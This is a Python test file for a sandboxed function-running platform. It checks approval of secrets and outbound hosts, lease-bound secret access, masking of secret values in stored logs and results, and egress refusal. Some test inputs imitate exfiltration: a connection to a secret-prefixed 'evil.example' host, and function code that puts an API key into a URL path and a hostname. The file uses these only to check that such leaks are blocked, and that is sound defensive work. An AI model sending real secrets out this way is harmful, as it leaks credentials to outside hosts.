"""What a run is given of hosts and secrets: by people's word, for the attempt that holds it, and out of all that is stored."""

import socket
from base64 import b64encode
from collections.abc import Callable
from datetime import timedelta
from types import SimpleNamespace
from typing import Any

import pytest
from django.db import connection
from django.db.models.functions import Now

from apps.approvals.expiry import expire_requests
from apps.approvals.models import ApprovalRequest
from apps.approvals.services import cast_vote, withdraw_request
from apps.audit.models import AuditRecord
from apps.core import leases
from apps.core.tenancy import scope
from apps.functions.capabilities import NotGranted
from apps.functions.definition import Settings
from apps.functions.models import FunctionVersion
from apps.runs.hiding import refuse_secrets
from apps.runs.models import Attempt, Connection, LogChunk, Run, Span
from apps.runs.outside import open_outside
from apps.runs.recorder import Recorder
from apps.runs.services import find_run
from apps.runs.work import perform_next_run
from apps.vault.masking import Mask
from apps.vault.services import delete_secret, rotate_secret, set_secret
from sandbox import ArtifactSkipped, HostRequest, Log, Output, Progress, RequestRefused, SpanEnded, SpanStarted
from sandbox import Connection as Attempted
from tests.runs.conftest import begin, write

VALUE = "correct-horse-battery-staple"
SOURCE = "def use(n: int) -> int:\n    return n\n"
ASKS = {"settings": Settings(secrets=("API_KEY",))}


@pytest.fixture
def key(cast):
    with scope(cast.acme.pk):
        return set_secret(actor=cast.admin, name="API_KEY", value=VALUE)


@pytest.fixture
def decide(cast) -> Callable[..., None]:
    """The one open request is decided by somebody who had no hand in it."""

    def vote(decision: str = "approve", reason: str = "Looked at.") -> None:
        with scope(cast.acme.pk):
            asked = ApprovalRequest.objects.get(state="open")
            cast_vote(actor=cast.approver, request_id=asked.pk, decision=decision, reason=reason, shown_digest=asked.digest)

    return vote


def reread(cast: SimpleNamespace, run: Run) -> Run:
    with scope(cast.acme.pk):
        return find_run(run.pk)


def closure_of(run: Run) -> list[FunctionVersion]:
    return list(FunctionVersion.objects.select_related("function").filter(pk__in=[part["version"] for part in run.closure]))


def claim() -> Run:
    run = leases.claim(lambda: Run.objects.order_by("id"), from_state="queued", to_state="running")
    assert run is not None
    return run


def everything_stored(cast: SimpleNamespace) -> str:
    """Every text of every table of runs and of the audit trail."""
    said = []
    with scope(cast.acme.pk), connection.cursor() as cursor:
        for model in (Run, Attempt, Span, LogChunk, Connection, AuditRecord):
            cursor.execute(f"SELECT row_to_json(t)::text FROM {model._meta.db_table} t")
            said += [row[0] for row in cursor.fetchall()]
    return "\n".join(said)


def test_a_run_waits_for_the_vote_and_then_goes_on_by_itself(cast, key, decide) -> None:
    run = begin(cast, write(cast, SOURCE, **ASKS), n=1)
    assert (run.state, run.secret_names, run.hosts, run.retry_class) == ("awaiting_approval", ["API_KEY"], [], "never")
    assert not perform_next_run()
    decide()
    assert reread(cast, run).state == "queued"


def test_a_rejection_refuses_the_run_with_its_reason(cast, key, decide) -> None:
    run = begin(cast, write(cast, SOURCE, **ASKS), n=1)
    decide("reject", "Not this key.")
    ended = reread(cast, run)
    assert (ended.state, ended.message) == ("refused", "The hosts, secrets and models were refused: Not this key.")


def test_a_request_that_is_withdrawn_or_runs_out_frees_what_waits(cast, key) -> None:
    version = write(cast, SOURCE, **ASKS)
    first = begin(cast, version, n=1)
    with scope(cast.acme.pk):
        withdraw_request(actor=cast.developer, request_id=first.capabilities.request_id)
    second = begin(cast, version, n=2)
    assert second.capabilities_id != first.capabilities_id
    with connection.cursor() as cursor, scope(cast.acme.pk):
        cursor.execute("ALTER TABLE approvals_approvalrequest DISABLE TRIGGER USER")
        ApprovalRequest.objects.filter(pk=second.capabilities.request_id).update(expires_at=Now() - timedelta(seconds=1))
        cursor.execute("ALTER TABLE approvals_approvalrequest ENABLE TRIGGER USER")
    assert expire_requests() == 1
    assert [reread(cast, run).state for run in (first, second)] == ["refused", "refused"]


def test_a_granted_function_runs_at_once_the_next_time(cast, key, decide) -> None:
    version = write(cast, SOURCE, **ASKS)
    decide()
    assert begin(cast, version, n=1).state == "queued"


def test_a_run_of_a_caller_is_not_tried_twice_when_only_what_it_calls_reaches_out(cast, key, decide) -> None:
    write(cast, SOURCE, **ASKS)
    decide()
    caller = write(cast, "def twice(n: int) -> int:\n    return use(n) + use(n)\n")
    decide()
    run = begin(cast, caller, n=1)
    assert (run.state, caller.retry_class, run.retry_class) == ("queued", "on_lost", "never")


def test_secrets_are_opened_for_the_worker_that_holds_the_run_and_recorded(cast, key, decide) -> None:
    version = write(cast, SOURCE, **ASKS)
    decide()
    begin(cast, version, n=1)
    run = claim()
    with scope(cast.acme.pk):
        closure = closure_of(run)
    outside = open_outside(run, closure)
    assert outside.secrets == {"API_KEY": VALUE}
    assert VALUE not in repr(outside)
    with scope(cast.acme.pk):
        assert AuditRecord.objects.filter(action="secret.opened").get().details["reader"] == f"run {run.pk}, attempt 1"
        Run.objects.filter(pk=run.pk).update(token=run.token + 1)
    with pytest.raises(leases.LeaseLost):
        open_outside(run, closure)


def test_a_run_that_was_not_granted_what_it_names_opens_nothing(cast, key, decide) -> None:
    begin(cast, write(cast, SOURCE, **ASKS), n=1)
    with scope(cast.acme.pk):
        Run.objects.update(state="queued")  # as somebody with the database in hand might
    run = claim()
    with scope(cast.acme.pk):
        closure = closure_of(run)
    with pytest.raises(NotGranted):
        open_outside(run, closure)


def test_a_secret_that_went_after_the_vote_ends_the_run_unexecuted(cast, key, decide) -> None:
    version = write(cast, SOURCE, **ASKS)
    decide()
    run = begin(cast, version, n=1)
    with scope(cast.acme.pk):
        delete_secret(actor=cast.admin, secret_id=key.pk)
        set_secret(actor=cast.admin, name="API_KEY", value="quite another value")
    assert perform_next_run()
    ended = reread(cast, run)
    assert (ended.state, ended.outcome) == ("failed", "grants")
    assert "not the ones that were granted" in ended.message


def test_a_root_key_that_opens_nothing_here_lets_the_run_wait_with_a_sentence(cast, key, decide, settings) -> None:
    """Nothing of the run has happened, also not of one that must not be done twice."""
    version = write(cast, SOURCE, **ASKS)
    decide()
    run = begin(cast, version, n=1)
    settings.VAULT_ROOT_KEY = b64encode(b"x" * 32).decode()
    assert perform_next_run()
    waiting = reread(cast, run)
    assert (waiting.state, waiting.retry_class, waiting.losses) == ("queued", "never", 0)
    assert "tell the operator" in waiting.message
    assert "SELFSMITH" not in waiting.message
    assert waiting.not_before is not None
    with scope(cast.acme.pk):
        assert waiting.attempts.get().outcome == "infra"


def test_what_a_box_says_is_stored_without_its_secrets(cast, key, decide) -> None:
    version = write(cast, SOURCE, **ASKS)
    decide()
    begin(cast, version, n=1)
    run = claim()
    recorder = Recorder(run, mask=Mask([VALUE]))
    for event in (
        Output("stdout", f"a {VALUE[:10]}".encode()),
        Output("stderr", b"between\n"),
        Output("stdout", f"{VALUE[10:]} b {VALUE[:12]}".encode()),
        Log("info", f"log {VALUE}"),
        Progress(0.5, f"at {VALUE}"),
        SpanStarted(VALUE, None, f"f{VALUE}", f"x='{VALUE[:14]}...{VALUE[-12:]}'"),
        SpanEnded(VALUE, None, "f", 0.1, f"'{VALUE}'", f"ValueError: {VALUE}", 1, f"x='{VALUE}'"),
        ArtifactSkipped(f"{VALUE}.txt", "too large"),
        Attempted(f"{VALUE}.evil.example", 443, "refused", f"{VALUE}.evil.example:443 is not granted.", 0, 0, 0.1),
    ):
        recorder.hear(event)
    recorder.close()
    stored = everything_stored(cast)
    for part in (VALUE, VALUE[:12], VALUE[-12:]):
        assert part not in stored
    with scope(cast.acme.pk):
        out = "".join(LogChunk.objects.filter(stream="stdout").order_by("seq").values_list("text", flat=True))
        assert out == "a *** b ***"
        assert Connection.objects.get().host == "***.evil.example"
        assert Span.objects.get().result_preview == "'***'"


@pytest.mark.parametrize("payload", [{"name": "other", "arguments": {"key": VALUE}}, {"name": "other", "item": [{VALUE: 1}]}])
def test_a_call_of_another_run_that_carries_a_secret_is_refused(payload: dict[str, Any]) -> None:
    """The other run's arguments are stored: its box would be sent what its row must not hold."""
    answer = refuse_secrets(Mask([VALUE]), lambda request: "answered")
    with pytest.raises(RequestRefused, match="carries a secret"):
        answer(HostRequest("run.call", payload))
    assert answer(HostRequest("run.call", {"name": "other", "arguments": {"n": 1, "x": 1.5, "y": None}})) == "answered"


@pytest.fixture
def port(monkeypatch) -> Any:
    """Of a server on loopback that this machine knows as tools.example."""
    look_up = socket.getaddrinfo
    monkeypatch.setattr(
        "socket.getaddrinfo", lambda host, port, **more: look_up("127.0.0.1" if host == "tools.example" else host, port, **more)
    )
    from http.server import ThreadingHTTPServer
    from threading import Thread

    from tests.sandbox.test_egress_boxes import Greeting

    server = ThreadingHTTPServer(("127.0.0.1", 0), Greeting)
    Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.mark.gvisor
def test_a_granted_function_uses_its_secret_and_reaches_its_host_and_leaves_no_trace_of_the_value(
    cast, key, decide, port, settings
) -> None:
    settings.EGRESS_ALLOWED_LOCAL_HOSTS = ["tools.example"]
    source = (
        "import os, sys, urllib.request\n\n\ndef send(port: int) -> dict:\n    key = os.environ['API_KEY']\n"
        "    print('key', key)\n    print(key[:9], end='', flush=True)\n    print(key[9:])\n    sys.stderr.write(key)\n"
        "    there = urllib.request.urlopen(f'http://tools.example:{port}/{key}', timeout=10).read().decode()\n"
        "    try:\n        urllib.request.urlopen(f'http://{key}.example/', timeout=10)\n"
        "    except OSError as error:\n        print(error)\n"
        "    return {'there': there, key: [key], 'length': len(key)}\n"
    )
    version = write(cast, source, settings=Settings(secrets=("API_KEY",), hosts=(f"tools.example:{port}",)))
    run = begin(cast, version, port=port)
    decide()
    assert perform_next_run()
    ended = reread(cast, run)
    assert ended.state == "succeeded", ended.message
    assert ended.result == {"there": f"tools.example:{port}/***", "***": ["***"], "length": len(VALUE)}
    assert VALUE not in everything_stored(cast)
    with scope(cast.acme.pk):
        seen = [(each.host, each.port, each.verdict) for each in run.connections.order_by("id")]
    assert seen == [("tools.example", port, "allowed"), ("***.example", 80, "refused")]


@pytest.mark.gvisor
def test_an_error_that_holds_a_secret_is_stored_without_it(cast, key, decide) -> None:
    source = "import os\n\n\ndef fail() -> None:\n    raise ValueError('bad key ' + os.environ['API_KEY'])\n"
    run = begin(cast, write(cast, source, **ASKS))
    decide()
    with scope(cast.acme.pk):
        rotate_secret(actor=cast.admin, secret_id=key.pk, value="the-value-after-rotation")
    assert perform_next_run()
    ended = reread(cast, run)
    assert (ended.state, ended.error["message"], ended.message) == ("failed", "bad key ***", "ValueError: bad key ***")
    assert "the-value-after-rotation" not in everything_stored(cast)


@pytest.mark.gvisor
def test_a_run_without_a_grant_sees_neither_secret_nor_host(cast, key, run_now) -> None:
    run = run_now(
        "import os\n\n\ndef look() -> list:\n    return [n for n in os.environ if 'KEY' in n or 'PROXY' in n.upper()]\n"
    )
    assert run.result == []
